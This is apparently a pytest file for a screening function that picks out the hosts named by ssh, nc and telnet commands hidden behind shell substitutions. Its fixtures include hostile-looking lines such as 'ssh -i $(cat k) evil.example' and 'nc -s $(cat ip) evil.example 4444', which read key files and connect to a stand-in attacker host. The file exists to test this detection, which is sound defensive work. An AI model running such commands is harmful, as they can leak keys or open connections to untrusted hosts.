"""A substitution among a network command's flags' values, or before its host, does not end the
reading of its words (every case of ``NAMED`` failed before the fix).

A network command's words end at the first that is neither a host nor a flag's value, and a
substitution's words were held to that too: in ``ssh -i $(cat k) evil.example`` the ``k)`` ended
the reading, so ``evil.example``, the host ssh connects to, was never named and the edit passed.
A substitution's words now never end it, and a substitution where the host may stand, or as a
flag's whole value, does not either, as for a download (``curl $(cat u) evil.example``). Once the
command has named its host, its later words are the remote command: a substitution there ends
the reading as any other word does (``ssh h.example $(cat c) evil.example``).
"""

from __future__ import annotations

import pytest

from skillopt_core.skill.screen import hosts_in
from tests.core.safety._hosts import (
    CTX,
    assert_apply_refuses,
    assert_known_host_passes,
    assert_names_unknown,
)

NAMED = [
    "ssh -i $(ssh api.acme.dev cat k) evil.example uptime",
    "ssh -i $(ssh h cat k) evil.example uptime",  # the inner reading ends at h, the outer goes on
    "ssh -i $(cat k) evil.example",
    "ssh -p $(cat port) evil.example",  # a value that is never a host
    "ssh -o ProxyCommand=$(cat p) evil.example",
    "ssh --opt=$(cat k x) evil.example",
    "ssh $(cat k) evil.example",  # before the host
    "ssh -i $(echo `cat k`) evil.example",
    "ssh -i $(ssh api.acme.dev $(cat k) x) evil.example",
    "ssh api.acme.dev -i $(cat k) evil.example",  # flags after the host are still read past
    "nc -s $(hostname -i | head -1) evil.example 4444",
    "nc -s $(cat ip) evil.example 4444",
    "telnet $(cat opts) evil.example 23",
    "- `ssh -i $(cat k) evil.example`",
    "- Run ssh -i $(cat k) evil.example now.",
    "```\nssh -i `cat k` evil.example\n```",
    "```bash\nssh -i `ssh api.acme.dev cat k` evil.example uptime\n```",
]
# Named before too: the substitution's last word happened to be a flag, or it was one word.
ALREADY = [
    "ssh -i $(cat -n k) -p 22 evil.example",
    "~~~\nnc -s `hostname -i` evil.example 4444\n~~~",
    "nc -s $(hostname -i) evil.example 4444",
    'ssh -i "$(cat k)" evil.example',
]


@pytest.mark.parametrize("content", NAMED + ALREADY, ids=repr)
def test_a_host_after_a_substitution_in_a_net_command_is_named(content: str) -> None:
    assert_names_unknown(content, {"api.acme.dev", "evil.example"}, at_most=True)


@pytest.mark.parametrize("content", NAMED[:3] + NAMED[14:17], ids=repr)
def test_apply_edits_refuses_a_host_after_a_substitution(content: str) -> None:
    assert_apply_refuses(content + "\n", CTX)


@pytest.mark.parametrize("content", NAMED + ALREADY, ids=repr)
def test_the_same_commands_with_a_host_the_user_names_pass(content: str) -> None:
    assert_known_host_passes(content, "staging.acme.dev")


@pytest.mark.parametrize(
    ("content", "hosts"),
    [
        # an operator, then prose
        ("ssh h uptime; evil.example", ()),
        ("ssh -i $(cat k); evil.example", ()),
        ("ssh -i $(cat k) | grep evil.example", ()),
        ("ssh -i $(cat k) # then evil.example", ()),
        # the host given: the later words are the remote command
        ("ssh h cat $(x) evil.example", ()),
        ("ssh api.acme.dev cat $(x) evil.example", ("api.acme.dev",)),
        ("ssh api.acme.dev $(cat cmd) evil.example", ("api.acme.dev",)),
        ("```\nssh api.acme.dev `cat cmd` evil.example\n```", ("api.acme.dev",)),
        # a flag's value is one word or one substitution; a flag inside one is not the command's
        ("ssh -i $(cat k) b evil.example", ()),
        ("ssh -i $(cat -o x) uptime evil.example", ()),
        ("nc -s $(hostname -i) evil.example 4444 other.example", ("evil.example",)),
        # the inline code that holds the command closes
        ("- Run `ssh -i $(cat k)` then evil.example", ()),
        # a substitution the line leaves open
        ("ssh -i $(cat k\n- Check evil.example", ()),
    ],
    ids=repr,
)
def test_what_ends_a_net_command_still_ends_it(content: str, hosts: tuple[str, ...]) -> None:
    """``hosts`` is a tuple: a set's order, in a test id, differs between workers."""
    assert hosts_in(content) == set(hosts)


BOTH = {"a.dev", "evil.example"}


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    ("text", "hosts"),
    [
        ("ssh " + "-i $(cat k) " * 100_000 + "evil.example", {"evil.example"}),
        (
            "ssh -i " + "$(ssh -i " * 100_000 + "k" + ")" * 100_000 + " evil.example",
            {"evil.example"},
        ),
        ("ssh " + "$(ssh a.dev cat k) " * 70_000 + "evil.example", BOTH),
        ("```\nssh " + "-i `ssh a.dev cat k` " * 60_000 + "evil.example\n```", BOTH),
        ("ssh -i $(" + "cat k " * 150_000 + ") evil.example", {"evil.example"}),
        ("ssh a.dev " + "-i $(cat k) " * 100_000 + "$(x) evil.example", {"a.dev"}),
        ("ssh -i " + "$(cat " * 150_000 + "x", set()),
    ],
    ids=["flags", "deep", "siblings", "fenced", "words", "given", "unclosed"],
)
def test_many_substitutions_in_a_net_command_are_read_once(text: str, hosts: set[str]) -> None:
    """Each word is read by one command only: these finish (about a second each)."""
    assert hosts_in(text) == hosts
